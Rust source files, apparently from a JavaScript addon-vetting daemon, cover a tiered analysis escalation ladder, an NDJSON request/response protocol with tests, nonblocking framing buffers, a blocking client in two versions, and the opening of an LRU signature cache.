/// entry — the "non-benign" half of the ladder's escalation predicate.
/// Sink-only and API-usage entries do *not* escalate: they are exact
/// phase-1 facts, identical at every tier.
pub fn signature_has_flows(signature_json: &str) -> bool {
    match Json::parse(signature_json) {
        Ok(doc) => matches!(&doc["flows"], Json::Arr(flows) if !flows.is_empty()),
        // Unparseable signatures escalate: the precise tier gets to
        // decide instead of a cheap tier's garbage being terminal.
        Err(_) => true,
    }
}

/// One finished [`run_ladder`] call: the terminal tier-stamped outcome
/// plus how the ladder got there.
#[derive(Debug)]
pub struct LadderRun {
    /// The terminal outcome, stamped with the resolving rung's name.
    pub outcome: VetOutcome,
    /// Index of the rung that resolved (0 = triage tier).
    pub rung: usize,
    /// Escalations taken, in order: `(from, to, reason)` with reason
    /// `"flows"` or `"budget"`.
    pub escalations: Vec<(String, String, &'static str)>,
}

/// Runs an escalation ladder over one submission: rungs in spec order,
/// escalating whenever the current rung reports a non-benign flow
/// ([`signature_has_flows`]) or exhausts its analysis budget
/// ([`VetOutcome::Timeout`]). Only the final rung's outcome is terminal
/// by fiat — in particular a *non-final* rung's timeout is an escalation
/// trigger, never a client-visible verdict. Errors (parse failures, the
/// interpreter's own safety valve) are terminal at any rung: more
/// sensitivity cannot fix malformed input.
///
/// Every attempt is stamped with its rung name and logged as a
/// `job_computed` record; escalations log `job_escalated {from, to,
/// reason}` between attempts, so `sigobs::replay` can validate the whole
/// lifecycle — one job id, several attempts, one terminal verdict. Only
/// the terminal outcome's postmortem is logged (`job_profile`), naming
/// the resolving tier. Per-rung analyze times land in
/// `serve_vet_us_<rung>` histograms; terminal-at-rung-0 increments
/// `serve_tier0_resolved` and each escalation `serve_escalated`.
pub fn run_ladder(
    ladder: &jsanalysis::LadderSpec,
    metrics: &MetricsRegistry,
    log: Option<&sigobs::EventLog>,
    job: &str,
    analyze: &mut dyn FnMut(&jsanalysis::AnalysisConfig) -> VetOutcome,
) -> LadderRun {
    let mut escalations: Vec<(String, String, &'static str)> = Vec::new();
    let last = ladder.rungs.len() - 1;
    for (i, rung) in ladder.rungs.iter().enumerate() {
        let t0 = std::time::Instant::now();
        let outcome = analyze(&rung.config).with_tier(&rung.name);
        let us = t0.elapsed().as_micros().min(u128::from(u64::MAX)) as u64;
        metrics.record(&format!("serve_vet_us_{}", rung.name), us);
        let escalate_reason = if i == last {
            None
        } else {
            match &outcome {
                VetOutcome::Timeout { .. } => Some("budget"),
                VetOutcome::Report { signature_json, .. }
                    if signature_has_flows(signature_json) =>
                {
                    Some("flows")
                }
                _ => None,
            }
        };
        if let Some(log) = log {
            log_job_computed(log, job, &outcome);
        }
        match escalate_reason {
            None => {
                if let Some(log) = log {
                    log_job_profile(log, job, &outcome);
                }
                if i == 0 {
                    metrics.add("serve_tier0_resolved", 1);
                }
                return LadderRun {
                    outcome,
                    rung: i,
                    escalations,
                };
            }
            Some(reason) => {
                let to = &ladder.rungs[i + 1].name;
                metrics.add("serve_escalated", 1);
                if let Some(log) = log {
                    log.log(
                        sigobs::Level::Info,
                        "job_escalated",
                        &[
                            ("job", Json::from(job)),
                            ("from", Json::from(rung.name.as_str())),
                            ("to", Json::from(to.as_str())),
                            ("reason", Json::from(reason)),
                        ],
                    );
                }
                escalations.push((rung.name.clone(), to.clone(), reason));
            }
        }
    }
    unreachable!("the final rung always returns");
}

/// The injected analysis pipeline: full vetting of one source under one
/// configuration, folding whatever it wants to expose (pipeline
/// counters, per-phase latencies) into the daemon's metrics registry.
/// Must be callable from many worker threads at once.
pub type AnalyzeFn =
    dyn Fn(&str, &jsanalysis::AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync;

/// The trace-aware engine variant: like [`AnalyzeFn`] plus a
/// [`sigtrace::Trace`] the engine should attach to the pipeline, so
/// per-phase spans land in the daemon's structured event log tagged with
/// the owning job's request ID. The daemon passes [`Trace::Off`] when no
/// log is attached (or its level is below debug), which an engine can
/// forward untouched at zero cost.
///
/// [`Trace::Off`]: sigtrace::Trace::Off
pub type AnalyzeJobFn = dyn for<'a> Fn(&str, &jsanalysis::AnalysisConfig, &MetricsRegistry, sigtrace::Trace<'a>) -> VetOutcome
    + Send
    + Sync;
