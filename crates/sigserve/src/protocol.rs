//! The newline-delimited JSON wire protocol.
//!
//! Requests, one compact JSON object per line:
//!
//! ```text
//! {"kind":"vet","name":"addon.js","source":"var x = 1;"}
//! {"kind":"vet","path":"crates/corpus/addons/pinpoints.js"}
//! {"kind":"vet_batch","items":[{"name":"a","source":"..."}, ...]}
//! {"kind":"stats"}
//! {"kind":"metrics"}
//! {"kind":"shutdown"}
//! ```
//!
//! Responses, one compact JSON object per line, in request order:
//!
//! ```text
//! {"kind":"vet_result","name":"addon.js","cached":false,"micros":5120,
//!  "verdict":"ok","p1_us":...,"p2_us":...,"p3_us":...,"signature":{...}}
//! {"kind":"vet_result",...,"verdict":"timeout","steps":501,"elapsed_us":...}
//! {"kind":"vet_result",...,"verdict":"error","message":"parse error: ..."}
//! {"kind":"overloaded","queued":32,"capacity":32}
//! {"kind":"stats", ...counters...}
//! {"kind":"metrics","prometheus":"# TYPE serve_vet_us histogram\n..."}
//! {"kind":"shutdown_ack","stats":{...}}
//! {"kind":"error","message":"unknown request kind"}
//! ```
//!
//! `vet_result` lines additionally carry a `job` field: the daemon's
//! per-job request ID (`j-<n>`), the same ID every structured-log record
//! about the job carries, so responses correlate with the event log.
//!
//! The `signature` value of an `ok` result is exactly the document
//! `vet --json` prints (parsed into the response object), so clients can
//! reconstruct the CLI's bytes with a pretty re-print.

use minijson::Json;

/// Where a vet request's program text comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    /// Inline in the request (`"source"`), the normal remote-client path.
    Inline(String),
    /// A path the daemon reads itself (`"path"`), for local tooling and
    /// smoke tests that would otherwise have to JSON-escape whole files.
    Path(String),
}

/// One submission inside a `vet` or `vet_batch` request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VetItem {
    /// Optional display name echoed back in the response.
    pub name: Option<String>,
    /// The program text (inline or by path).
    pub source: Source,
}

/// A parsed protocol request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Request {
    /// Vet one addon.
    Vet(VetItem),
    /// Vet several addons; one `vet_batch_result` line answers them all.
    VetBatch(Vec<VetItem>),
    /// Report the daemon's counters.
    Stats,
    /// Report the metrics registry as a Prometheus text body.
    Metrics,
    /// Finish pending jobs, dump counters, and stop.
    Shutdown,
}

fn parse_item(v: &Json) -> Result<VetItem, String> {
    let name = v.get("name").and_then(Json::as_str).map(str::to_owned);
    let source = match (v.get("source"), v.get("path")) {
        (Some(Json::Str(s)), None) => Source::Inline(s.clone()),
        (None, Some(Json::Str(p))) => Source::Path(p.clone()),
        (Some(_), Some(_)) => return Err("vet item has both source and path".to_owned()),
        _ => return Err("vet item needs a string source or path".to_owned()),
    };
    Ok(VetItem { name, source })
}

/// Parses one request line.
pub fn parse_request(line: &str) -> Result<Request, String> {
    let v = Json::parse(line.trim()).map_err(|e| e.to_string())?;
    match v.get("kind").and_then(Json::as_str) {
        Some("vet") => Ok(Request::Vet(parse_item(&v)?)),
        Some("vet_batch") => {
            let items = v
                .get("items")
                .and_then(Json::as_array)
                .ok_or_else(|| "vet_batch needs an items array".to_owned())?;
            if items.is_empty() {
                return Err("vet_batch items is empty".to_owned());
            }
            items
                .iter()
                .map(parse_item)
                .collect::<Result<Vec<_>, _>>()
                .map(Request::VetBatch)
        }
        Some("stats") => Ok(Request::Stats),
        Some("metrics") => Ok(Request::Metrics),
        Some("shutdown") => Ok(Request::Shutdown),
        Some(other) => Err(format!("unknown request kind: {other}")),
        None => Err("request needs a string kind".to_owned()),
    }
}

/// Builds a `vet` request document (used by the client and tests).
pub fn vet_request(name: Option<&str>, source: &str) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("vet"));
    if let Some(n) = name {
        o.set("name", Json::from(n));
    }
    o.set("source", Json::from(source));
    o
}

/// The `kind:error` response for malformed requests.
pub fn error_response(message: &str) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("error"));
    o.set("message", Json::from(message));
    o
}

/// The typed backpressure response: the job queue is full.
pub fn overloaded_response(name: Option<&str>, queued: usize, capacity: usize) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("overloaded"));
    if let Some(n) = name {
        o.set("name", Json::from(n));
    }
    o.set("queued", Json::from(queued as f64));
    o.set("capacity", Json::from(capacity as f64));
    o
}

/// The typed *write* backpressure response: the connection's outbound
/// buffer is full because the client is not reading its responses, so
/// new vet work on this connection is shed instead of queued. Distinct
/// from [`overloaded_response`] (a daemon-wide full job queue) via the
/// `reason` field and byte-denominated bounds.
pub fn backpressure_response(name: Option<&str>, queued_bytes: usize, capacity_bytes: usize) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("overloaded"));
    o.set("reason", Json::from("write_backpressure"));
    if let Some(n) = name {
        o.set("name", Json::from(n));
    }
    o.set("queued_bytes", Json::from(queued_bytes as f64));
    o.set("capacity_bytes", Json::from(capacity_bytes as f64));
    o
}

/// Wraps a cached-or-computed core result (its fields start at
/// `"verdict"`) with per-request provenance: the display name, the
/// request ID (when the daemon assigned one), whether the cache
/// answered, and the request's wall time in microseconds.
pub fn vet_response(
    core: &Json,
    name: Option<&str>,
    job: Option<&str>,
    cached: bool,
    micros: u128,
) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("vet_result"));
    if let Some(n) = name {
        o.set("name", Json::from(n));
    }
    if let Some(j) = job {
        o.set("job", Json::from(j));
    }
    o.set("cached", Json::Bool(cached));
    o.set("micros", Json::from(micros as f64));
    if let Json::Obj(entries) = core {
        for (k, v) in entries {
            o.set(k, v.clone());
        }
    }
    o
}

/// The `kind:metrics` response: the Prometheus text body plus its sample
/// count (so scripted clients can sanity-check without parsing).
pub fn metrics_response(prometheus: &str, samples: usize) -> Json {
    let mut o = Json::obj();
    o.set("kind", Json::from("metrics"));
    o.set("samples", Json::from(samples as f64));
    o.set("prometheus", Json::from(prometheus));
    o
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_vet_inline_and_path() {
        let r = parse_request(r#"{"kind":"vet","name":"a.js","source":"var x;"}"#).unwrap();
        assert_eq!(
            r,
            Request::Vet(VetItem {
                name: Some("a.js".to_owned()),
                source: Source::Inline("var x;".to_owned()),
            })
        );
        let r = parse_request(r#"{"kind":"vet","path":"/tmp/a.js"}"#).unwrap();
        assert_eq!(
            r,
            Request::Vet(VetItem {
                name: None,
                source: Source::Path("/tmp/a.js".to_owned()),
            })
        );
    }

    #[test]
    fn rejects_malformed_requests() {
        assert!(parse_request("not json").is_err());
        assert!(parse_request(r#"{"kind":"vet"}"#).is_err(), "no source");
        assert!(
            parse_request(r#"{"kind":"vet","source":"x","path":"y"}"#).is_err(),
            "both source and path"
        );
        assert!(parse_request(r#"{"kind":"launch_missiles"}"#).is_err());
        assert!(parse_request(r#"{"kind":"vet_batch","items":[]}"#).is_err());
    }

    #[test]
    fn parses_batch_stats_shutdown() {
        let r = parse_request(
            r#"{"kind":"vet_batch","items":[{"source":"a"},{"name":"b","source":"b"}]}"#,
        )
        .unwrap();
        match r {
            Request::VetBatch(items) => assert_eq!(items.len(), 2),
            other => panic!("expected batch, got {other:?}"),
        }
        assert_eq!(parse_request(r#"{"kind":"stats"}"#).unwrap(), Request::Stats);
        assert_eq!(
            parse_request(r#"{"kind":"metrics"}"#).unwrap(),
            Request::Metrics
        );
        assert_eq!(
            parse_request(r#"{"kind":"shutdown"}"#).unwrap(),
            Request::Shutdown
        );
    }

    #[test]
    fn metrics_response_is_single_line_with_sample_count() {
        let resp = metrics_response("# TYPE a counter\na 1\n", 1);
        assert_eq!(resp["kind"], "metrics");
        assert_eq!(resp["samples"].as_f64(), Some(1.0));
        assert!(resp["prometheus"].as_str().unwrap().contains("a 1"));
        assert!(!resp.to_string_compact().contains('\n'));
    }

    #[test]
    fn vet_response_prepends_provenance() {
        let mut core = Json::obj();
        core.set("verdict", Json::from("ok"));
        core.set("signature", Json::obj());
        let resp = vet_response(&core, Some("x.js"), Some("j-7"), true, 42);
        assert_eq!(resp["kind"], "vet_result");
        assert_eq!(resp["name"], "x.js");
        assert_eq!(resp["job"], "j-7");
        assert_eq!(resp["cached"], Json::Bool(true));
        assert_eq!(resp["micros"].as_f64(), Some(42.0));
        assert_eq!(resp["verdict"], "ok");
        let line = resp.to_string_compact();
        assert!(!line.contains('\n'));
    }

    #[test]
    fn request_builder_roundtrips_through_parser() {
        let req = vet_request(Some("n"), "var x = \"two\\nlines\";");
        let parsed = parse_request(&req.to_string_compact()).unwrap();
        assert_eq!(
            parsed,
            Request::Vet(VetItem {
                name: Some("n".to_owned()),
                source: Source::Inline("var x = \"two\\nlines\";".to_owned()),
            })
        );
    }
}
