//! Incremental NDJSON framing buffers for nonblocking connections.
//!
//! The event loop reads whatever bytes a socket has ready and feeds
//! them to a [`LineBuf`], which hands back complete newline-terminated
//! lines as they materialize — a slow-loris client dribbling one byte
//! per RTT just leaves a partial line parked here without pinning a
//! thread. Outbound, a [`WriteBuf`] holds each response as one
//! contiguous pre-framed slice and flushes as far as the socket
//! accepts, so the single-write framing (and its TCP_NODELAY latency
//! win) carries over from the threaded server.
//!
//! Both buffers track a consumed-prefix cursor and compact lazily, so
//! steady-state pipelining does no per-line reallocation.
//!
//! The blocking [`crate::client::Client`] shares [`LineBuf`] too — the
//! fleet worker path and the event loop frame bytes identically.

use std::io::{self, Write};
use std::string::FromUtf8Error;

/// How far the consumed prefix may grow before a buffer memmoves the
/// live tail down to the front.
const COMPACT_AT: usize = 64 * 1024;

/// Accumulates raw bytes and yields complete `\n`-terminated lines.
pub struct LineBuf {
    buf: Vec<u8>,
    start: usize,
    max_line: usize,
}

impl LineBuf {
    /// A buffer that refuses single lines longer than `max_line` bytes
    /// (the guard that stops a hostile client growing memory without
    /// ever sending a newline).
    pub fn new(max_line: usize) -> LineBuf {
        LineBuf {
            buf: Vec::new(),
            start: 0,
            max_line,
        }
    }

    /// Appends freshly read bytes. Returns `false` when the unfinished
    /// line now exceeds the configured maximum — the caller should
    /// answer with a protocol error and drop the connection.
    #[must_use]
    pub fn extend(&mut self, bytes: &[u8]) -> bool {
        self.buf.extend_from_slice(bytes);
        // Only an *unterminated* run can violate the cap: complete
        // lines will drain via next_line before the next read.
        let live = &self.buf[self.start..];
        live.len() <= self.max_line || live.contains(&b'\n')
    }

    /// Bytes buffered but not yet returned as lines.
    pub fn pending(&self) -> usize {
        self.buf.len() - self.start
    }

    /// Extracts the next complete line (without its `\n`, and without a
    /// trailing `\r` so CRLF clients work). `None` means only a partial
    /// line remains; `Some(Err(_))` means the bytes were not UTF-8, and
    /// the connection should be dropped exactly as the blocking
    /// `BufRead::lines` server did.
    pub fn next_line(&mut self) -> Option<Result<String, FromUtf8Error>> {
        let live = &self.buf[self.start..];
        let nl = live.iter().position(|&b| b == b'\n')?;
        let mut end = self.start + nl;
        if end > self.start && self.buf[end - 1] == b'\r' {
            end -= 1;
        }
        let line = String::from_utf8(self.buf[self.start..end].to_vec());
        self.start += nl + 1;
        if self.start >= COMPACT_AT && self.start * 2 >= self.buf.len() {
            self.buf.drain(..self.start);
            self.start = 0;
        }
        Some(line)
    }
}

/// A bounded-by-policy outbound byte queue for one connection.
///
/// The buffer itself never refuses bytes — the event loop enforces the
/// backpressure caps by checking [`WriteBuf::queued`] *before* doing
/// the work that would produce more output.
#[derive(Default)]
pub struct WriteBuf {
    buf: Vec<u8>,
    start: usize,
    /// Lifetime bytes the sink accepted (monotone; survives compaction).
    written: u64,
}

impl WriteBuf {
    /// An empty write buffer.
    pub fn new() -> WriteBuf {
        WriteBuf::default()
    }

    /// Bytes queued and not yet accepted by the socket.
    pub fn queued(&self) -> usize {
        self.buf.len() - self.start
    }

    /// Lifetime bytes the sink has accepted from this buffer — what a
    /// `conn_closed` record reports as `bytes_written`, so timeline
    /// reconstruction can cross-check framing totals per connection.
    pub fn written(&self) -> u64 {
        self.written
    }

    /// True when everything queued has been written out.
    pub fn is_empty(&self) -> bool {
        self.queued() == 0
    }

    /// Queues raw bytes (already framed by the caller).
    pub fn push(&mut self, bytes: &[u8]) {
        self.buf.extend_from_slice(bytes);
    }

    /// Writes as much as the sink will take right now. `Ok(())` on
    /// either fully drained or `WouldBlock`; hard I/O errors (including
    /// a zero-length write) surface so the caller can close the
    /// connection.
    pub fn write_to(&mut self, w: &mut dyn Write) -> io::Result<()> {
        while self.queued() > 0 {
            match w.write(&self.buf[self.start..]) {
                Ok(0) => {
                    return Err(io::Error::new(
                        io::ErrorKind::WriteZero,
                        "connection sink accepted zero bytes",
                    ))
                }
                Ok(n) => {
                    self.start += n;
                    self.written += n as u64;
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            }
        }
        if self.queued() == 0 {
            self.buf.clear();
            self.start = 0;
        } else if self.start >= COMPACT_AT {
            self.buf.drain(..self.start);
            self.start = 0;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_reassemble_across_arbitrary_read_boundaries() {
        let mut lb = LineBuf::new(1024);
        for chunk in [&b"{\"a\""[..], b":1}\n{\"b\":2}", b"\r\n", b"tail"] {
            assert!(lb.extend(chunk));
        }
        assert_eq!(lb.next_line().unwrap().unwrap(), "{\"a\":1}");
        assert_eq!(lb.next_line().unwrap().unwrap(), "{\"b\":2}");
        assert!(lb.next_line().is_none(), "partial tail stays buffered");
        assert_eq!(lb.pending(), 4);
        assert!(lb.extend(b"!\n"));
        assert_eq!(lb.next_line().unwrap().unwrap(), "tail!");
    }

    #[test]
    fn oversized_unterminated_line_trips_the_guard() {
        let mut lb = LineBuf::new(16);
        assert!(lb.extend(&[b'x'; 16]));
        assert!(!lb.extend(b"y"), "17th byte with no newline overflows");
        // A newline anywhere in the live region keeps the buffer legal
        // even past the cap: the lines are extractable.
        let mut ok = LineBuf::new(16);
        assert!(ok.extend(&[b'x'; 10]));
        assert!(ok.extend(b"\n0123456789abcdef"));
        assert_eq!(ok.next_line().unwrap().unwrap(), "xxxxxxxxxx");
    }

    #[test]
    fn non_utf8_line_is_an_error_not_a_panic() {
        let mut lb = LineBuf::new(64);
        assert!(lb.extend(&[0xff, 0xfe, b'\n']));
        assert!(lb.next_line().unwrap().is_err());
    }

    /// A sink that takes at most `cap` bytes per call and then reports
    /// `WouldBlock` — a nonblocking socket with a tiny send buffer.
    struct Dribble {
        cap: usize,
        took: Vec<u8>,
        calls_until_block: usize,
    }

    impl Write for Dribble {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            if self.calls_until_block == 0 {
                return Err(io::Error::new(io::ErrorKind::WouldBlock, "full"));
            }
            self.calls_until_block -= 1;
            let n = buf.len().min(self.cap);
            self.took.extend_from_slice(&buf[..n]);
            Ok(n)
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn write_buf_survives_partial_writes_and_wouldblock() {
        let mut wb = WriteBuf::new();
        wb.push(b"{\"kind\":\"vet_result\"}\n");
        wb.push(b"{\"kind\":\"stats\"}\n");
        let total = wb.queued();
        let mut sink = Dribble {
            cap: 5,
            took: Vec::new(),
            calls_until_block: 3,
        };
        wb.write_to(&mut sink).expect("WouldBlock is not an error");
        assert_eq!(sink.took.len(), 15);
        assert_eq!(wb.queued(), total - 15);
        sink.calls_until_block = usize::MAX;
        wb.write_to(&mut sink).expect("drain");
        assert!(wb.is_empty());
        assert_eq!(sink.took, b"{\"kind\":\"vet_result\"}\n{\"kind\":\"stats\"}\n");
        assert_eq!(
            wb.written(),
            total as u64,
            "lifetime written counter matches what the sink accepted"
        );
    }

    #[test]
    fn write_zero_is_a_hard_error() {
        struct Zero;
        impl Write for Zero {
            fn write(&mut self, _: &[u8]) -> io::Result<usize> {
                Ok(0)
            }
            fn flush(&mut self) -> io::Result<()> {
                Ok(())
            }
        }
        let mut wb = WriteBuf::new();
        wb.push(b"x");
        assert!(wb.write_to(&mut Zero).is_err());
    }
}
