//! A minimal blocking client for the NDJSON protocol.
//!
//! One request line out, one response line back, strictly in order; used
//! by `vet --client`, the integration tests, and the `serve_load` bench.

use crate::protocol::vet_request;
use minijson::Json;
use std::io::{self, BufRead, BufReader, Write};
use std::net::{TcpStream, ToSocketAddrs};

/// A connected protocol client.
pub struct Client {
    writer: TcpStream,
    reader: BufReader<TcpStream>,
}

fn bad_data(msg: String) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg)
}

impl Client {
    /// Connects to a running daemon.
    pub fn connect(addr: impl ToSocketAddrs) -> io::Result<Client> {
        let writer = TcpStream::connect(addr)?;
        // Request/response lines are tiny; leaving Nagle on costs a
        // delayed-ACK round trip (~40ms) per message.
        writer.set_nodelay(true)?;
        let reader = BufReader::new(writer.try_clone()?);
        Ok(Client { writer, reader })
    }

    /// Sends one raw line and parses the one-line response. The protocol
    /// answers every line — even malformed ones — so this never needs a
    /// timeout to distinguish "no answer" from "slow answer".
    pub fn raw_line(&mut self, line: &str) -> io::Result<Json> {
        // One write per line: a separate write of the trailing newline
        // would sit in the kernel behind Nagle waiting for an ACK.
        let mut framed = String::with_capacity(line.len() + 1);
        framed.push_str(line);
        framed.push('\n');
        self.writer.write_all(framed.as_bytes())?;
        self.writer.flush()?;
        let mut resp = String::new();
        if self.reader.read_line(&mut resp)? == 0 {
            return Err(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "daemon closed the connection",
            ));
        }
        Json::parse(resp.trim_end()).map_err(|e| bad_data(format!("bad response line: {e}")))
    }

    /// Sends one request document and returns the parsed response.
    pub fn request(&mut self, req: &Json) -> io::Result<Json> {
        self.raw_line(&req.to_string_compact())
    }

    /// Vets inline source text.
    pub fn vet_source(&mut self, name: Option<&str>, source: &str) -> io::Result<Json> {
        self.request(&vet_request(name, source))
    }

    /// Asks the daemon to vet a file it can read itself.
    pub fn vet_path(&mut self, path: &str) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("vet"));
        req.set("path", Json::from(path));
        self.request(&req)
    }

    /// Fetches the daemon's counters.
    pub fn stats(&mut self) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("stats"));
        self.request(&req)
    }

    /// Fetches the metrics registry as a Prometheus text body (the
    /// `kind:metrics` response also carries its sample count).
    pub fn metrics(&mut self) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("metrics"));
        self.request(&req)
    }

    /// Asks the daemon to finish pending jobs and stop; returns the
    /// `shutdown_ack` carrying the final counter dump.
    pub fn shutdown(&mut self) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("shutdown"));
        self.request(&req)
    }
}
