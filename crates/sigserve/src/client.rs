//! A minimal blocking client for the NDJSON protocol.
//!
//! One request line out, one response line back, strictly in order; used
//! by `vet --client`, the sigfleet worker's coordinator link, the
//! integration tests, and the `serve_load` bench. Inbound framing goes
//! through the same [`crate::conn::LineBuf`] the event-driven server
//! uses, so every path in the repo reassembles NDJSON lines with one
//! piece of code.

use crate::conn::LineBuf;
use crate::protocol::vet_request;
use minijson::Json;
use std::io::{self, Read, Write};
use std::net::{TcpStream, ToSocketAddrs};

/// Response lines can carry whole signatures plus a log tail; cap a
/// single line at something generous rather than unbounded.
const MAX_RESPONSE_LINE: usize = 64 * 1024 * 1024;

/// A connected protocol client.
pub struct Client {
    stream: TcpStream,
    rbuf: LineBuf,
}

fn bad_data(msg: String) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg)
}

impl Client {
    /// Connects to a running daemon.
    pub fn connect(addr: impl ToSocketAddrs) -> io::Result<Client> {
        let stream = TcpStream::connect(addr)?;
        // Request/response lines are tiny; leaving Nagle on costs a
        // delayed-ACK round trip (~40ms) per message.
        stream.set_nodelay(true)?;
        Ok(Client {
            stream,
            rbuf: LineBuf::new(MAX_RESPONSE_LINE),
        })
    }

    /// Sends one raw line and parses the one-line response. The protocol
    /// answers every line — even malformed ones — so this never needs a
    /// timeout to distinguish "no answer" from "slow answer".
    pub fn raw_line(&mut self, line: &str) -> io::Result<Json> {
        // One write per line: a separate write of the trailing newline
        // would sit in the kernel behind Nagle waiting for an ACK.
        let mut framed = String::with_capacity(line.len() + 1);
        framed.push_str(line);
        framed.push('\n');
        self.stream.write_all(framed.as_bytes())?;
        self.stream.flush()?;
        let resp = self.read_line()?;
        Json::parse(resp.trim_end()).map_err(|e| bad_data(format!("bad response line: {e}")))
    }

    /// Blocks until one complete response line is buffered.
    fn read_line(&mut self) -> io::Result<String> {
        let mut chunk = [0u8; 16 * 1024];
        loop {
            match self.rbuf.next_line() {
                Some(Ok(line)) => return Ok(line),
                Some(Err(e)) => return Err(bad_data(format!("bad response line: {e}"))),
                None => {}
            }
            match self.stream.read(&mut chunk) {
                Ok(0) => {
                    return Err(io::Error::new(
                        io::ErrorKind::UnexpectedEof,
                        "daemon closed the connection",
                    ))
                }
                Ok(n) => {
                    if !self.rbuf.extend(&chunk[..n]) {
                        return Err(bad_data("response line exceeds maximum length".to_owned()));
                    }
                }
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            }
        }
    }

    /// Sends one request document and returns the parsed response.
    pub fn request(&mut self, req: &Json) -> io::Result<Json> {
        self.raw_line(&req.to_string_compact())
    }

    /// Vets inline source text.
    pub fn vet_source(&mut self, name: Option<&str>, source: &str) -> io::Result<Json> {
        self.request(&vet_request(name, source))
    }

    /// Asks the daemon to vet a file it can read itself.
    pub fn vet_path(&mut self, path: &str) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("vet"));
        req.set("path", Json::from(path));
        self.request(&req)
    }

    /// Fetches the daemon's counters.
    pub fn stats(&mut self) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("stats"));
        self.request(&req)
    }

    /// Fetches the metrics registry as a Prometheus text body (the
    /// `kind:metrics` response also carries its sample count).
    pub fn metrics(&mut self) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("metrics"));
        self.request(&req)
    }

    /// Asks the daemon to finish pending jobs and stop; returns the
    /// `shutdown_ack` carrying the final counter dump.
    pub fn shutdown(&mut self) -> io::Result<Json> {
        let mut req = Json::obj();
        req.set("kind", Json::from("shutdown"));
        self.request(&req)
    }
}
