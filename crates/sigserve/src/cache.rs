//! The content-addressed signature cache.
//!
//! Key = FNV-1a over (source bytes, canonicalized [`AnalysisConfig`]):
//! two submissions share a slot exactly when the pipeline would produce
//! the same report for both, so addon-market traffic full of re-submitted
//! and duplicated addons is answered in microseconds instead of
//! re-analyzed. Bounded by LRU eviction; hit/miss/eviction counters feed
//! the daemon's `stats` endpoint.

use jsanalysis::AnalysisConfig;
use minijson::Json;
use std::collections::{BTreeMap, HashMap};

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// 64-bit FNV-1a over a byte stream.
fn fnv1a(seed: u64, bytes: &[u8]) -> u64 {
    let mut h = seed;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

/// The content address of one vetting job: FNV-1a of the source bytes, a
/// separator that cannot occur in UTF-8, and the canonical config
/// rendering (pass `AnalysisConfig::canonical_string()` as `config_canon`;
/// the server precomputes it once).
pub fn cache_key(source: &str, config_canon: &str) -> u64 {
    let h = fnv1a(FNV_OFFSET, source.as_bytes());
    let h = fnv1a(h, &[0xff]);
    fnv1a(h, config_canon.as_bytes())
}

/// Convenience wrapper computing the canonical rendering on the fly.
pub fn cache_key_for(source: &str, config: &AnalysisConfig) -> u64 {
    cache_key(source, &config.canonical_string())
}

/// Monotone counters exposed through the `stats` protocol request.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CacheCounters {
    /// Lookups answered from the cache.
    pub hits: u64,
    /// Lookups that missed (and went to the worker pool).
    pub misses: u64,
    /// Entries evicted to stay within capacity.
    pub evictions: u64,
    /// Entries currently resident.
    pub entries: u64,
    /// The configured capacity.
    pub capacity: u64,
}

struct Entry {
    value: Json,
    stamp: u64,
    /// Request ID of the job whose analysis produced this entry; logged
    /// as provenance on every later hit.
    producer: String,
}

/// An LRU map from content address to the cached core vet result (the
/// response body minus per-request provenance fields).
pub struct SigCache {
    cap: usize,
    map: HashMap<u64, Entry>,
    /// Recency index: stamp -> key. The smallest stamp is the LRU entry;
    /// `BTreeMap` gives O(log n) bump/evict without unsafe list surgery.
    order: BTreeMap<u64, u64>,
    next_stamp: u64,
    hits: u64,
    misses: u64,
    evictions: u64,
}

impl SigCache {
    /// A cache holding at most `cap` results; `cap == 0` disables caching
    /// (every lookup misses, inserts are dropped).
    pub fn new(cap: usize) -> SigCache {
        SigCache {
            cap,
            map: HashMap::new(),
            order: BTreeMap::new(),
            next_stamp: 0,
            hits: 0,
            misses: 0,
            evictions: 0,
        }
    }

    fn bump(order: &mut BTreeMap<u64, u64>, next_stamp: &mut u64, entry: &mut Entry, key: u64) {
        order.remove(&entry.stamp);
        entry.stamp = *next_stamp;
        *next_stamp += 1;
        order.insert(entry.stamp, key);
    }

    /// Counted lookup: bumps recency and the hit/miss counters. Returns
    /// the cached core plus the producing job's request ID (provenance).
    pub fn get(&mut self, key: u64) -> Option<(Json, String)> {
        match self.map.get_mut(&key) {
            Some(entry) => {
                self.hits += 1;
                Self::bump(&mut self.order, &mut self.next_stamp, entry, key);
                Some((entry.value.clone(), entry.producer.clone()))
            }
            None => {
                self.misses += 1;
                None
            }
        }
    }

